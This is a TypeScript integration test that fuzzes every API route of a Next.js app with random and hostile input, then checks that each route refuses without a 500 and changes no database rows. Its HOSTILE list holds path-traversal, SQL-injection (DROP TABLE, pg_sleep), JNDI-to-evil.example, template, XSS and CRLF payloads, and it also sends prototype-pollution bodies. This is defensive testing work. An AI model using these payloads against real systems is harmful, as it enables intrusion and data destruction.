// Every API route, found on disk, called with random and hostile path
// parameters, query strings and bodies (long strings, unicode, control
// characters, path traversal, SQL and template meta-characters, huge and
// non-finite numbers, wrong JSON types, oversized and deeply nested bodies)
// as a signed-in admin with a valid CSRF token, so input validation is what
// answers. Every answer is below 500, every refusal carries a message, and no
// row of any table changes (refusals that are audited by design — failed
// sign-ins, rejected webhooks — may only append those audit events).
import { responseText } from "@/test/support/response-text";
import fs from "node:fs";
import path from "node:path";
import { randomUUID } from "node:crypto";
import { NextRequest } from "next/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import { createCollectorFixture, deploymentYaml, KUBECTL_UA, type CollectorFixture } from "../support/collector-env";
import { resourcePath } from "@/lib/kube/discovery";
import { createTestSession, type TestSession } from "@/lib/auth/testing";
import { resetConfigCache } from "@/lib/config";
import { resetEnvCache } from "@/lib/env";
import { refreshAlerts } from "@/lib/alerts";

const root = path.resolve(import.meta.dirname, "../..");
const METHODS = ["GET", "POST", "PUT", "PATCH", "DELETE"] as const;
const CASES_PER_ROUTE = Number(process.env.FUZZ_CASES ?? 30);

/** Deterministic, so a failure can be replayed: FUZZ_SEED=… npm run test:integration -- fuzz. */
const SEED = Number(process.env.FUZZ_SEED ?? 0x5eed);
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTILE: string[] = [
  "",
  " ",
  "../../../../etc/passwd",
  "..%2F..%2F..%2Fetc%2Fpasswd",
  "%2e%2e/%2e%2e/",
  "%ED%A0%80%FF",
  "/etc/shadow",
  "C:\\Windows\\win.ini",
  "' OR '1'='1",
  "'; DROP TABLE \"User\"; --",
  "\" OR \"\"=\"",
  "1; SELECT pg_sleep(10)--",
  "$1",
  "%",
  "_",
  "\\",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "\r\nSet-Cookie: x=1",
  "\u202e\u202dreversed",
  "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀🔥",
  "Ω≈ç√∫˜µ≤≥÷",
  "\ud800",
  "null",
  "undefined",
  "NaN",
  "Infinity",
  "-Infinity",
  "-1",
  "0",
  "-0",
  "1e309",
  "9".repeat(400),
  "9007199254740993",
  "0x7fffffff",
  "1.5",
  "true",
  "[]",
  "{}",
  "a".repeat(10_000),
  "ä".repeat(5_000),
  "00000000-0000-0000-0000-000000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffff",
  "production",
  "HEAD",
  "refs/heads/main",
  "~1",
  "*",
  "..",
  ".",
];

const NUMBERS: unknown[] = [-1, 0, -0, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 64, Number.MIN_VALUE];
const QUERY_KEYS = ["limit", "cursor", "before", "after", "from", "to", "environment", "env", "type", "format", "q", "kind", "namespace", "days", "open", "status", "owner", "sha", "mode", "sort", "order", "next", "code", "state", "driftItemId", "actor", "action", "target"];
const BODY_KEYS = ["username", "password", "role", "displayName", "reason", "duration", "expiresAt", "incidentUrl", "environment", "confirm", "controllerRef", "driftItemIds", "owner", "returnPath", "next", "disabled", "ref", "repository", "branch"];

interface Target {
  route: string;
  file: string;
  method: (typeof METHODS)[number];
  handler: Handler;
  dynamic: Array<{ name: string; catchAll: boolean }>;
}
type Handler = (req: NextRequest, ctx: { params: Promise<Record<string, string | string[]>> }) => Promise<Response>;

function routeFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) return routeFiles(p);
    return e.name === "route.ts" ? [p] : [];
  });
}

let f: CollectorFixture;
let admin: TestSession;
const targets: Target[] = [];
const saved = { config: process.env.DRIFTWATCH_CONFIG };

beforeAll(async () => {
  const api = deploymentYaml("api", "shop/api:1.4.0", 2);
  f = await createCollectorFixture({ "envs/test/app.yaml": [api] });
  await f.applyAsController([api]);
  await f.run();
  const r = f.admin.discovery.lookup("apps/v1", "Deployment");
  if (!r) throw new Error("no deployments");
  await f.admin.client.requestJson("PATCH", resourcePath(r, "shop", "api") + "/scale", { body: { spec: { replicas: 5 } }, contentType: "application/merge-patch+json", userAgent: KUBECTL_UA });
  await f.run();
  const configFile = path.join(f.dir, "driftwatch.yaml");
  fs.writeFileSync(
    configFile,
    stringify({
      repositories: [{ name: "shop", url: f.repo.dir, webhookSecretEnv: "DW_FUZZ_WEBHOOK_SECRET" }],
      environments: [{ name: "test", cluster: { kubeconfig: f.cluster.kubeconfigPath, context: "t-readonly" }, namespaces: ["shop"], defaultNamespace: "shop", source: { repository: "shop", branch: "main", path: "envs/test" } }],
    }),
  );
  process.env.DRIFTWATCH_CONFIG = configFile;
  process.env.DW_FUZZ_WEBHOOK_SECRET = randomUUID();
  resetEnvCache();
  resetConfigCache();
  admin = await createTestSession(f.db, "admin", "fuzz-admin");
  // Alerts up to date, so an (input-free) refresh has nothing left to change.
  await refreshAlerts(f.db, null, new Date());

  for (const file of routeFiles(path.join(root, "app", "api"))) {
    const rel = path.relative(path.join(root, "app"), path.dirname(file)).split(path.sep);
    const route = "/" + rel.join("/");
    const dynamic = rel.flatMap((seg) => {
      const m = /^\[(\.\.\.)?(\w+)\]$/.exec(seg);
      return m ? [{ name: m[2] ?? "", catchAll: Boolean(m[1]) }] : [];
    });
    const mod = (await import(file)) as Record<string, unknown>;
    for (const method of METHODS) {
      if (typeof mod[method] !== "function") continue;
      // Ends the caller's own session whatever it is sent; it reads no input.
      if (route === "/api/auth/signout") continue;
      targets.push({ route, file, method, handler: mod[method] as Handler, dynamic });
    }
  }
}, 120_000);

afterAll(async () => {
  if (saved.config === undefined) delete process.env.DRIFTWATCH_CONFIG;
  else process.env.DRIFTWATCH_CONFIG = saved.config;
  delete process.env.DW_FUZZ_WEBHOOK_SECRET;
  resetEnvCache();
  resetConfigCache();
  await f?.cleanup();
});

/** A digest of every table's rows; audit events that refusals append by design are left out. */
async function fingerprint(): Promise<Record<string, string>> {
  const tables = await f.db.$queryRaw<Array<{ name: string }>>`
    SELECT tablename AS name FROM pg_tables WHERE schemaname = current_schema() AND tablename <> '_prisma_migrations' ORDER BY 1`;
  const out: Record<string, string> = {};
  for (const { name } of tables) {
    const where = name === "AuditEvent" ? `WHERE action NOT IN ('auth.signin_failed', 'webhook.rejected')` : "";
    const rows = await f.db.$queryRawUnsafe<Array<{ n: number; digest: string | null }>>(
      `SELECT count(*)::int AS n, md5(string_agg(t::text, '|' ORDER BY t::text)) AS digest FROM "${name}" t ${where}`,
    );
    out[name] = `${rows[0]?.n}:${rows[0]?.digest ?? ""}`;
  }
  return out;
}

function pick<T>(rand: () => number, list: readonly T[]): T {
  return list[Math.floor(rand() * list.length)] as T;
}

function randomString(rand: () => number): string {
  const r = rand();
  if (r < 0.6) return pick(rand, HOSTILE);
  const len = Math.floor(rand() * (r < 0.9 ? 40 : 3000));
  let s = "";
  for (let i = 0; i < len; i++) {
    const kind = rand();
    // Control characters, but not NUL: that one has its own test below.
    s += kind < 0.7 ? String.fromCharCode(32 + Math.floor(rand() * 95)) : kind < 0.9 ? String.fromCodePoint(0x80 + Math.floor(rand() * 0x2ff80)) : String.fromCharCode(1 + Math.floor(rand() * 31));
  }
  return s;
}

function randomValue(rand: () => number, depth = 0): unknown {
  const r = rand();
  if (r < 0.45) return randomString(rand);
  if (r < 0.6) return pick(rand, NUMBERS);
  if (r < 0.65) return rand() < 0.5;
  if (r < 0.7) return null;
  if (depth > 2) return randomString(rand);
  if (r < 0.85) return Array.from({ length: Math.floor(rand() * 4) }, () => randomValue(rand, depth + 1));
  return randomObject(rand, depth + 1);
}

function randomObject(rand: () => number, depth = 0): Record<string, unknown> {
  const o: Record<string, unknown> = {};
  const n = 1 + Math.floor(rand() * 6);
  for (let i = 0; i < n; i++) o[rand() < 0.8 ? pick(rand, BODY_KEYS) : randomString(rand).slice(0, 50)] = randomValue(rand, depth);
  if (rand() < 0.1) o.__proto__ = { role: "admin" };
  return o;
}

function randomBody(rand: () => number): { body: string; contentType: string } {
  const r = rand();
  if (r < 0.45) return { body: JSON.stringify(randomObject(rand)), contentType: "application/json" };
  if (r < 0.55) return { body: JSON.stringify(randomValue(rand)), contentType: "application/json" };
  if (r < 0.62) return { body: randomString(rand), contentType: "application/json" };
  if (r < 0.68) return { body: "[".repeat(20_000) + "]".repeat(20_000), contentType: "application/json" };
  if (r < 0.72) return { body: JSON.stringify({ reason: "x".repeat(300 * 1024) }), contentType: "application/json" };
  if (r < 0.78) return { body: JSON.stringify(randomObject(rand)), contentType: pick(rand, ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", ""]) };
  if (r < 0.82) return { body: '{"a":1,"a":2,"__proto__":{"polluted":true}}', contentType: "application/json" };
  return { body: "", contentType: "application/json" };
}

function randomQuery(rand: () => number): string {
  const params = new URLSearchParams();
  const n = Math.floor(rand() * 5);
  for (let i = 0; i < n; i++) params.append(rand() < 0.85 ? pick(rand, QUERY_KEYS) : randomString(rand).slice(0, 30), rand() < 0.8 ? randomString(rand) : String(pick(rand, NUMBERS)));
  return params.toString();
}

/** Header values can only carry visible ASCII (fetch refuses the rest before any server sees it). */
function headerSafe(s: string): string {
  return [...s].filter((c) => c >= " " && c <= "~").join("");
}

/** Percent-encodes like a client would; a lone surrogate (no valid UTF-8) goes as the raw bytes a broken client sends. */
function encodeSegment(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return "%ED%A0%80" + encodeURIComponent(s.replace(/[\ud800-\udfff]/g, ""));
  }
}

function buildRequest(t: Target, rand: () => number): { req: NextRequest; params: Record<string, string | string[]>; label: string } {
  const params: Record<string, string | string[]> = {};
  for (const d of t.dynamic) params[d.name] = d.catchAll ? Array.from({ length: 1 + Math.floor(rand() * 5) }, () => randomString(rand)) : randomString(rand);
  const urlPath = t.route
    .split("/")
    .map((seg) => {
      const m = /^\[(\.\.\.)?(\w+)\]$/.exec(seg);
      if (!m) return seg;
      const v = params[m[2] ?? ""];
      return Array.isArray(v) ? v.map(encodeSegment).join("/") : encodeSegment(v ?? "");
    })
    .join("/");
  const query = randomQuery(rand);
  const headers: Record<string, string> = { ...admin.headers, host: "localhost", origin: "http://localhost", "x-forwarded-for": `10.66.${Math.floor(rand() * 250)}.${Math.floor(rand() * 250)}` };
  let body: string | undefined;
  if (t.method !== "GET" && t.method !== "DELETE") {
    const b = randomBody(rand);
    body = b.body;
    if (b.contentType) headers["content-type"] = b.contentType;
    else delete headers["content-type"];
  }
  if (t.route.startsWith("/api/webhooks/") && rand() < 0.7) {
    headers[pick(rand, ["x-hub-signature-256", "x-gitlab-token", "x-gitea-signature", "x-driftwatch-signature"])] = headerSafe(randomString(rand));
    headers[pick(rand, ["x-github-delivery", "x-gitlab-event-uuid", "x-gitea-delivery", "x-driftwatch-delivery"])] = headerSafe(randomString(rand));
    headers["x-github-event"] = "push";
  }
  const url = `http://localhost${urlPath}${query ? `?${query}` : ""}`;
  return { req: new NextRequest(url, { method: t.method, headers, body }), params, label: `${t.method} ${url.slice(0, 300)}${body !== undefined ? ` body ${body.slice(0, 200)}` : ""}` };
}

describe("fuzzing every API route", () => {
  it("finds the routes on disk", () => {
    const names = new Set(targets.map((t) => `${t.method} ${t.route}`));
    for (const expected of ["GET /api/environments/[env]/drift", "POST /api/claims", "POST /api/pauses", "PATCH /api/users/[username]", "POST /api/webhooks/git", "GET /api/metrics", "POST /api/auth/signin"]) {
      expect(names).toContain(expected);
    }
    expect(targets.length).toBeGreaterThanOrEqual(30);
  });

  it("answers hostile input with a 4xx and a message (never a 500), and changes no row", async () => {
    const rand = prng(SEED);
    const failures: string[] = [];
    const statuses = new Map<number, number>();
    let requests = 0;
    const started = Date.now();
    for (const t of targets) {
      const before = await fingerprint();
      for (let i = 0; i < CASES_PER_ROUTE; i++) {
        const { req, params, label } = buildRequest(t, rand);
        let res: Response;
        try {
          res = await t.handler(req, { params: Promise.resolve(params) });
        } catch (e) {
          failures.push(`${label} → threw ${e instanceof Error ? e.message : String(e)}`);
          continue;
        }
        requests++;
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        const text = await responseText(res);
        if (res.status >= 500) {
          failures.push(`${label} → ${res.status} ${text.slice(0, 200)}`);
        } else if (res.status >= 400) {
          let message: unknown;
          try {
            message = (JSON.parse(text) as { error?: { message?: unknown } }).error?.message;
          } catch {
            message = undefined;
          }
          if (typeof message !== "string" || message.trim() === "") failures.push(`${label} → ${res.status} without a message: ${text.slice(0, 200)}`);
        }
      }
      const after = await fingerprint();
      const changed = Object.keys(before).filter((k) => before[k] !== after[k]);
      if (changed.length > 0) failures.push(`${t.method} ${t.route} changed rows in ${changed.join(", ")}`);
    }
    console.log(`[fuzz] ${requests} requests over ${targets.length} route methods in ${Date.now() - started} ms; statuses ${JSON.stringify(Object.fromEntries([...statuses].sort((a, b) => a[0] - b[0])))}`);
    expect(failures.slice(0, 25)).toEqual([]);
    // Input validation did the refusing: not everything was merely "unauthorised".
    expect([...statuses.keys()].some((s) => s === 400 || s === 404)).toBe(true);
  }, 300_000);

  // Postgres cannot store a NUL character; the route wrappers refuse one in
  // params, query and body with a 400 before any query runs.
  it("answers a NUL character anywhere in the input with a 4xx, never a 500", async () => {
    const NUL = "a\u0000b";
    const failures: string[] = [];
    for (const t of targets) {
      const params: Record<string, string | string[]> = {};
      for (const d of t.dynamic) params[d.name] = d.catchAll ? [NUL] : NUL;
      const urlPath = t.route.replace(/\[(\.\.\.)?\w+\]/g, "a%00b");
      const query = new URLSearchParams(QUERY_KEYS.map((k) => [k, NUL])).toString();
      const body = t.method === "GET" || t.method === "DELETE" ? undefined : JSON.stringify(Object.fromEntries(BODY_KEYS.map((k) => [k, NUL])));
      for (const url of [`http://localhost${urlPath}`, `http://localhost${urlPath}?${query}`]) {
        const res = await t.handler(new NextRequest(url, { method: t.method, headers: { ...admin.headers, host: "localhost" }, body }), { params: Promise.resolve(params) });
        if (res.status >= 500) failures.push(`${t.method} ${url.slice(0, 120)} → ${res.status}`);
      }
    }
    console.log(`[fuzz] NUL character: ${failures.length} answers of 500\n  ${failures.join("\n  ")}`);
    expect(failures).toEqual([]);
  }, 120_000);
});
